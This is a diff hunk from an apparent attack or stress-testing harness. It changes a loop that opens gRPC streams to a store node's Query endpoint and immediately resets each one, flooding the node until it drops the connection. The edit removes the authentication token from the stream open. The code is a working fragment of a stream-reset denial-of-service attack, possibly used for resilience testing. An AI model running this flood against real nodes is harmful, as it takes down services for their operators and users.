@@ -21,7 +21,7 @@ async def attack(target: Target, _rng: random.Random, count: int) -> str:
         for number in range(count):
             if connection.lost.is_set():
                 return f"the node closed the connection after {number:,} resets"
-            stream = connection.open("/storenode.v1.Store/Query", target.token)
+            stream = connection.open("/storenode.v1.Store/Query")
             connection.send(stream, MESSAGE_HEAD.pack(False, 0), last=True)
             connection.reset(stream)
             if number % _AT_ONCE == 0:
